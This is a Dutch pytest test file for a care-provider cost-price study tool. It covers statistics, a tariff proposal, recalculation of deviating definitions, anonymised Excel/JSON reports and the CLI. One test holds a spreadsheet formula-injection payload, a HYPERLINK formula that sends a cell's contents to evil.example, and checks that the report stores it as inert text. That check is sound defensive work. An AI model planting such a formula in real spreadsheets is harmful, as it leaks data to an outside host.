"""Het onderzoek over een synthetische studie: spreiding gelijk aan een onafhankelijke pandas-berekening
op de grondwaarheid, herrekening zichtbaar, normvoorstel met afleiding, rapport veilig en anoniem."""

from __future__ import annotations

import dataclasses
import json
import zipfile
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kostprijs.cli import main
from kostprijs.errors import Melding
from kostprijs.onderzoek.definities import COMPONENTEN
from kostprijs.onderzoek.rapport import schrijf_rapport
from kostprijs.onderzoek.statistiek import spreiding, uitschieters
from kostprijs.onderzoek.studie import Afgewezen, Studie, bereken_studie, onderzoek
from kostprijs.onderzoek.voorstel import Normen, Voorstel
from tests.test_onderzoek_inlezen import script

KOSTEN = [*COMPONENTEN, "kostprijs"]
NORMEN = Normen(bezettingsgraad=0.9, overhead_aandeel=0.2)


@pytest.fixture(scope="module")
def studie(tmp_path_factory: pytest.TempPathFactory) -> tuple[Studie, pd.DataFrame, Path]:
    map_ = tmp_path_factory.mktemp("studie")
    waarheid = script("maak_synthetische_studie").maak_studie(map_, aantal=14, zaad=2026)
    return onderzoek(map_, NORMEN), pd.DataFrame(waarheid), map_


def grondmaten(df: pd.DataFrame) -> pd.DataFrame:
    """Onafhankelijk uit de grondwaarheid: alle maten per aanbieder."""
    uit = pd.DataFrame(index=df.index)
    kosten = df[list(COMPONENTEN)].assign(kostprijs=df[list(COMPONENTEN)].sum(axis=1))
    for k in KOSTEN:
        uit[f"{k}/per_bezet_etmaal"] = kosten[k] / df["bezette_etmalen"]
        uit[f"{k}/per_plaatsdag"] = kosten[k] / df["capaciteit_etmalen"]
    uit["bezettingsgraad"] = df["bezette_etmalen"] / df["capaciteit_etmalen"]
    uit["fte_per_plaats"] = df["fte"] / df["plaatsen"]
    uit["personeelskosten_per_fte"] = df["personeel"] / df["fte"]
    uit["overhead_aandeel"] = df["overhead"] / kosten["kostprijs"]
    uit["verzuimpercentage"] = df["verzuim_x_fte"] / df["fte"]
    uit["resultaat_percentage"] = df["resultaat_x_kosten"] / kosten["kostprijs"]
    uit["roosteruren_per_plaats_per_week"] = df["roosteruren_per_week"] / df["plaatsen"]
    return uit


def test_synthetische_studie_heeft_minstens_12_aanbieders(studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    assert len(s.aanbieders) == len(df) >= 12
    assert [a.aanbieder for a in s.aanbieders] == list(df["aanbieder"])
    assert not s.afgewezen


def test_maten_per_aanbieder_gelijk_aan_grondwaarheid(studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    verwacht = grondmaten(df)
    for maat in verwacht.columns:
        np.testing.assert_allclose(s.maten[maat], verwacht[maat], rtol=1e-9, err_msg=maat)


def test_spreiding_gelijk_aan_onafhankelijke_pandas_berekening(studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    maten = grondmaten(df)
    groepen = {"alle": df.index} | {f"nachtdienst {g}": sub.index for g, sub in df.groupby("groep")}
    assert set(groepen) == set(s.spreiding)
    for groep, index in groepen.items():
        for maat in maten.columns:
            x, sp = maten.loc[index, maat], s.spreiding[groep][maat]
            assert sp.n == len(x)
            if len(x) < 3:
                assert sp.onderdrukt and sp.mediaan is None and sp.gemiddelde is None
                continue
            verwacht = {"gemiddelde": x.mean(), "mediaan": x.median(), "q1": x.quantile(0.25),
                        "q3": x.quantile(0.75), "minimum": x.min(), "maximum": x.max(),
                        "gewogen_plaatsen": np.average(x, weights=df.loc[index, "plaatsen"]),
                        "gewogen_etmalen": np.average(x, weights=df.loc[index, "bezette_etmalen"])}
            for k, v in verwacht.items():
                assert getattr(sp, k) == pytest.approx(v, rel=1e-9), f"{groep} {maat} {k}"


def test_uitschieters_volgens_tukey(studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    for maat, x in grondmaten(df).items():
        q1, q3 = x.quantile(0.25), x.quantile(0.75)
        verwacht = ((x < q1 - 1.5 * (q3 - q1)) | (x > q3 + 1.5 * (q3 - q1))).tolist()
        assert s.uitschieters[str(maat)] == verwacht, maat


def test_normvoorstel_volgt_de_afleiding(studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    m = grondmaten(df)
    direct = sum(m[f"{c}/per_plaatsdag"].median() / 0.9 for c in ("personeel", "inhuur", "huisvesting"))
    direct += m["clientkosten/per_bezet_etmaal"].median()
    tarief = direct + direct * 0.2 / 0.8
    assert isinstance(s.voorstel, Voorstel)
    assert s.voorstel.direct == pytest.approx(direct, rel=1e-12)
    assert s.voorstel.tarief == pytest.approx(tarief, rel=1e-12)
    assert s.voorstel.tarief_afgerond == float(Decimal(repr(float(tarief))).quantize(Decimal("0.01"), ROUND_HALF_UP))
    assert [r.component for r in s.voorstel.regels] == [*COMPONENTEN]
    assert "normbezetting 90,0%" in s.voorstel.regels[0].formule


def test_statistiek_per_component_kiesbaar(studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    normen = Normen(0.85, 0.25, {"personeel": "gewogen_etmalen", "inhuur": "mediaan", "clientkosten": "q3",
                                 "huisvesting": "gemiddelde"})
    anders = bereken_studie(list(s.aanbieders), [], normen, anoniem=False)
    assert isinstance(anders.voorstel, Voorstel)
    m = grondmaten(df)
    personeel = np.average(m["personeel/per_plaatsdag"], weights=df["bezette_etmalen"]) / 0.85
    assert anders.voorstel.regels[0].per_bezet_etmaal == pytest.approx(personeel, rel=1e-12)
    client = m["clientkosten/per_bezet_etmaal"].quantile(0.75)
    assert anders.voorstel.regels[2].per_bezet_etmaal == pytest.approx(client, rel=1e-12)


def test_afwijkende_definities_worden_herrekend_en_nooit_stil_gemiddeld(
        studie: tuple[Studie, pd.DataFrame, Path]) -> None:
    s, df, _ = studie
    for a, (_, rij) in zip(s.aanbieders, df.iterrows(), strict=True):
        onderwerpen = {h.onderwerp for h in a.herrekeningen}
        if rij["afwijkend"]:
            assert onderwerpen == {"jaarurenbasis", "bezettingsbasis", "overhead"}, a.aanbieder
        else:
            assert not onderwerpen, a.aanbieder
    afwijkend = df.index[df["afwijkend"]]
    assert len(afwijkend) >= 3
    # Zonder herrekening (fte zoals opgegeven, 38 x 52 uur) zou fte per plaats 5% te laag uitvallen:
    i = int(afwijkend[0])
    opgegeven_fte = sum(loc.fte for loc in s.aanbieders[i].locaties) / (38 * 52 / (36 * 365 / 7))
    assert opgegeven_fte / df.loc[i, "plaatsen"] < 0.96 * s.maten["fte_per_plaats"][i]


def test_rapport_toont_de_herrekening_en_grafieken(studie: tuple[Studie, pd.DataFrame, Path], tmp_path: Path) -> None:
    s, df, _ = studie
    json_pad = schrijf_rapport(s, tmp_path / "rapport.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "rapport.xlsx")
    assert {"Samenvatting", "Spreiding", "Aanbieders", "Herrekening", "Voorstel", "Afgewezen", "Grafieken"} <= set(
        wb.sheetnames)
    assert wb["Grafiekdata"].sheet_state == "hidden"
    rijen = list(wb["Herrekening"].iter_rows(min_row=4, values_only=True))
    herrekend = {r[0] for r in rijen}
    assert herrekend == set(df.loc[df["afwijkend"], "aanbieder"])
    assert {r[3] for r in rijen} == {"Jaarurenbasis", "Bezettingsbasis", "Overhead"}
    assert {r[1] for r in rijen} == {"Realisatie"}
    gegevens = json.loads(json_pad.read_text(encoding="utf-8"))
    assert {h["aanbieder"] for h in gegevens["herrekeningen"]} == herrekend
    assert [a["herrekend"] for a in gegevens["aanbieders"]] == list(df["afwijkend"])
    assert gegevens["voorstel"]["tarief_afgerond"] == s.voorstel.tarief_afgerond  # type: ignore[union-attr]
    with zipfile.ZipFile(tmp_path / "rapport.xlsx") as zf:
        assert {"xl/charts/chart1.xml", "xl/charts/chart2.xml"} <= set(zf.namelist())
    assert {"Grafieken", "Kostprijs aanbieders"} <= set(wb.sheetnames)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rapport.json", "rapport.xlsx"]


def test_anoniem_rapport_bevat_geen_namen_of_bestanden(studie: tuple[Studie, pd.DataFrame, Path],
                                                     tmp_path: Path) -> None:
    s, df, _ = studie
    afgewezen = [Afgewezen("Zorg Geheim B.V.xlsx", (Melding("Zorg Geheim B.V.xlsx", "dit is geen .xlsx-bestand"),)),
                 Afgewezen("kopie.xlsx", (Melding("Aanbieder!C4", f"staat ook in {s.aanbieders[0].bron}"),))]
    anoniem = bereken_studie(list(s.aanbieders), afgewezen, NORMEN, anoniem=True)
    json_pad = schrijf_rapport(anoniem, tmp_path / "rapport.xlsx")
    teksten = [json_pad.read_text(encoding="utf-8")]
    with zipfile.ZipFile(tmp_path / "rapport.xlsx") as zf:
        teksten += [zf.read(n).decode("utf-8", "replace") for n in zf.namelist() if n.endswith(".xml")]
    alles = "\n".join(teksten)
    for naam in df["aanbieder"]:
        assert naam not in alles
    assert "aanbieder-0" not in alles and "Locatie 1.1" not in alles
    assert "Zorg Geheim" not in alles and "kopie.xlsx" not in alles
    assert [a["bestand"] for a in json.loads(teksten[0])["afgewezen"]] == ["bestand 1", "bestand 2"]
    assert sorted(anoniem.codes) == [f"Aanbieder {i:02d}" for i in range(1, len(df) + 1)]
    assert list(anoniem.codes) != sorted(anoniem.codes), "codes volgen niet de alfabetische volgorde"


def test_rapport_schrijft_gebruikerstekst_nooit_als_formule(studie: tuple[Studie, pd.DataFrame, Path],
                                                           tmp_path: Path) -> None:
    s, _, _ = studie
    kwaad = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    aanbieders = [dataclasses.replace(s.aanbieders[0], aanbieder=kwaad), *s.aanbieders[1:]]
    studie2 = bereken_studie(aanbieders, [], NORMEN, anoniem=False)
    schrijf_rapport(studie2, tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as zf:
        bladen = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in b for b in bladen), "het rapport bevat geen enkele formule"
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Aanbieders"]
    assert ws["A5"].value == kwaad and ws["A5"].data_type == "s"


def test_cli_onderzoek(studie: tuple[Studie, pd.DataFrame, Path], tmp_path: Path,
                       capsys: pytest.CaptureFixture[str]) -> None:
    _, _, map_ = studie
    uit = tmp_path / "rapport.xlsx"
    assert main(["onderzoek", str(map_), "--uit", str(uit), "--normbezetting", "0.9", "--overheadnorm", "0.2",
                 "--anoniem"]) == 0
    out = capsys.readouterr().out
    assert "14 opgaven in het onderzoek" in out and "Normatief tarief per bezet etmaal" in out
    assert json.loads(uit.with_suffix(".json").read_text(encoding="utf-8"))["anoniem"] is True
    assert main(["onderzoek", str(map_), "--uit", str(uit), "--normbezetting", "0.9"]) == 2
    assert main(["onderzoek", str(map_), "--uit", str(uit), "--normbezetting", "90", "--overheadnorm", "0.2"]) == 2
    assert "--normbezetting" in capsys.readouterr().err
    assert main(["onderzoek", str(map_), "--uit", str(tmp_path / "x.xlsx")]) == 0
    gegevens: dict[str, Any] = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
    assert gegevens["voorstel"] is None


@settings(max_examples=200, deadline=None)
@given(st.lists(st.floats(0, 1e4, allow_nan=False), min_size=0, max_size=30),
       st.randoms(use_true_random=False))
def test_spreiding_invarianten(waarden: list[float], rng: Any) -> None:
    gewichten = [rng.randint(1, 10) for _ in waarden]
    s = spreiding(waarden, gewichten, gewichten)
    assert s.n == len(waarden)
    if len(waarden) < 3:
        assert s.onderdrukt and s.mediaan is None and not uitschieters(waarden).any()
        return
    assert s.minimum is not None and s.maximum is not None and s.q1 is not None and s.q3 is not None
    eps = 1e-9 * (1 + s.maximum)
    assert s.minimum - eps <= s.q1 <= s.mediaan + eps <= s.q3 + 2 * eps <= s.maximum + 3 * eps  # type: ignore[operator]
    assert s.minimum - eps <= s.gewogen_plaatsen <= s.maximum + eps  # type: ignore[operator]
    assert s.gewogen_plaatsen == s.gewogen_etmalen


def test_aanbieder_zonder_bezette_etmalen_wordt_afgewezen_niet_de_studie(tmp_path: Path) -> None:
    synth = script("maak_synthetische_studie")
    synth.maak_studie(tmp_path, aantal=3, zaad=9)
    import random

    opgave, _ = synth.maak_opgave(random.Random(99), 50)
    opgave["locaties"] = opgave["locaties"][:1]
    loc = opgave["locaties"][0]
    for sleutel in ("bezettingsgraad", "bezettingsbasis", "beschikbare_plaatsen"):
        loc.pop(sleutel, None)
    loc["bezette_etmalen"] = 0
    from kostprijs.onderzoek.sjabloon import schrijf_sjabloon

    synth.schrijf_ingevuld(schrijf_sjabloon(tmp_path / ".s.xlsx"), tmp_path / "leeg-jaar.xlsx", opgave)
    s = onderzoek(tmp_path)
    assert len(s.aanbieders) == 3
    assert [(a.bestand, a.meldingen[0].plaats) for a in s.afgewezen] == [("leeg-jaar.xlsx", "Locatie 1!C6")]
